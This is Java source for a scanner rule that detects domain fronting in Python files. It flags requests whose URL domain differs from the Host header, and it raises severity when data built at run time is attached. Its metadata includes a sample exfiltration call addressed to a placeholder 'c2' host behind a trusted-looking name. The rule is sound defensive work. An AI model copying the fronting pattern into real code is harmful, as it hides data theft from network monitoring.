package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Node;
import dev.kingsnake.spi.python.Stmt;

import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Domain fronting: a request addressed to one well-known name whose {@code Host} header names another. The
 * connection (and any network log) shows a trusted domain (pypi.org, a CDN) while the CDN routes the request to
 * the attacker's service named in the header; recon beacons of dependency-confusion campaigns use it.
 */
public final class FrontedHostRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-FRONTED-HOST",
            "Domain fronting: a request to one domain carries a Host header naming another (the connection shows a "
                    + "trusted name, the CDN delivers to the hidden one)",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.NETWORK, Tags.OBFUSCATION),
            "urllib.request.Request('https://pypi.example.invalid/r?d=' + data, headers={'Host': 'c2.example.invalid'})",
            "Tests of virtual hosts talk to an IP address or localhost with a Host header; those are not reported, "
                    + "only a domain name in the URL with a different domain in the header. CRITICAL when the URL "
                    + "also carries data assembled at run time.");

    private static final Pattern URL_HOST = Pattern.compile("(?i)^[a-z][a-z0-9+.-]*://([^/:?#\\s]+)");
    private static final Pattern IP_OR_LOCAL = Pattern.compile("(?i)^(\\d+(\\.\\d+){3}|\\[.*]|localhost)$");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        if (file.hasParseErrors()) {
            unparsed(file, sink);
        }
        CallFacts facts = CallFacts.of(file);
        if (!facts.fileCaps().contains(Capability.NETWORK)) {
            return;
        }
        for (Expr.Call call : file.calls()) {
            Optional<String> header = call.keyword("headers").flatMap(h -> hostHeader(facts, h));
            if (header.isEmpty()) {
                continue;
            }
            Optional<Expr> url = call.keyword("url").or(() -> call.arg(0));
            report(file, call, url.flatMap(u -> leadingText(facts, u)).flatMap(FrontedHostRule::host), header.get(),
                    url.filter(u -> facts.file().constant(u).isEmpty()).isPresent(), "", sink);
        }
    }

    /** Reports a request whose URL host and Host header name different sites (not an IP address or localhost). */
    private static void report(PythonFile file, Node where, Optional<String> urlHost, String header, boolean carriesData,
                               String context, FindingSink sink) {
        String fronted = header.toLowerCase(Locale.ROOT).replaceFirst(":\\d+$", "");
        if (urlHost.isEmpty() || IP_OR_LOCAL.matcher(urlHost.get()).matches() || IP_OR_LOCAL.matcher(fronted).matches()
                || sameSite(urlHost.get(), fronted)) {
            return;
        }
        sink.report(file, where, "request to " + urlHost.get() + " with the Host header " + fronted
                        + " (domain fronting)" + context + (carriesData ? ", carrying data built at run time" : ""),
                        carriesData ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
    }

    /** A quoted URL, and whether data is appended to it right after its closing quote. */
    private static final Pattern QUOTED_URL = Pattern.compile("(?i)['\"]([a-z][a-z0-9+.-]*://[^'\"\\s]+)['\"](\\s*[+%])?");
    private static final Pattern QUOTED_HOST_HEADER = Pattern.compile("(?i)['\"]host['\"]\\s*:\\s*['\"]([^'\"\\s]+)['\"]");

    /**
     * A statement that does not parse (one broken line can swallow the rest of a file) is read as text: a quoted
     * URL and a quoted {@code 'Host': '...'} header naming another domain.
     */
    private static void unparsed(PythonFile file, FindingSink sink) {
        for (Node n : file.nodes()) {
            if (!(n instanceof Stmt.Invalid bad)) {
                continue;
            }
            Matcher header = QUOTED_HOST_HEADER.matcher(bad.text());
            Matcher url = QUOTED_URL.matcher(bad.text());
            if (!header.find() || !url.find()) {
                continue;
            }
            report(file, bad, host(url.group(1)), header.group(1), url.group(2) != null, " in code that does not parse",
                    sink);
        }
    }

    private static Optional<String> hostHeader(CallFacts facts, Expr headers) {
        if (headers instanceof Expr.Dict d) {
            for (Expr.DictItem item : d.items()) {
                if (item.key().flatMap(facts::text).filter(k -> k.equalsIgnoreCase("host")).isPresent()) {
                    return facts.text(item.value());
                }
            }
        }
        return Optional.empty();
    }

    /** The constant start of a URL: the whole constant, the left end of a concatenation, an f-string's first part. */
    private static Optional<String> leadingText(CallFacts facts, Expr e) {
        Optional<String> whole = facts.text(e);
        if (whole.isPresent()) {
            return whole;
        }
        if (e instanceof Expr.BinOp b && "+".equals(b.op())) {
            return leadingText(facts, b.left());
        }
        if (e instanceof Expr.FString fs && !fs.parts().isEmpty()) {
            return facts.text(fs.parts().get(0));
        }
        return Optional.empty();
    }

    private static Optional<String> host(String url) {
        Matcher m = URL_HOST.matcher(url);
        return m.find() ? Optional.of(m.group(1).toLowerCase(Locale.ROOT)) : Optional.empty();
    }

    /** Same registrable-looking domain: the last two labels agree (api.example.org and www.example.org). */
    private static boolean sameSite(String a, String b) {
        return lastLabels(a).equals(lastLabels(b));
    }

    private static String lastLabels(String host) {
        String[] labels = host.split("\\.");
        return labels.length <= 2 ? host : labels[labels.length - 2] + "." + labels[labels.length - 1];
    }
}
